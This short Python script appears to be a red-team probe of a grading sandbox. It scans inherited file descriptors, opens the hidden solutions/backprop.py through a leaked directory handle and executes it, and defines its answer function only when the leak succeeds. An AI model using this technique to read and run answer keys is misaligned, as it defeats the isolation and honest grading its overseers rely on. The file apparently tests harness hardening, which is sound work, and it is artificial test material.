# Reads from the descriptors that it was started with, and opens files beside folders among them.
# Attacks: solutions/backprop.py

# %%
import contextlib
import os
import stat

leaked = []
for number in range(3, 256):
    with contextlib.suppress(OSError):
        mode = os.fstat(number).st_mode
        if stat.S_ISREG(mode) and os.pread(number, 16, 0).startswith((b"SQLite", b"{", b"# ")):
            leaked.append(number)
        if stat.S_ISDIR(mode):
            leaked += [os.open("solutions/backprop.py", os.O_RDONLY, dir_fd=number)]
            exec(os.read(leaked[-1], 2**20), globals())

# %%
if leaked:  # a mark is how the test notices

    def compute_dE_dW(dE_df, X):
        return X @ dE_df.T
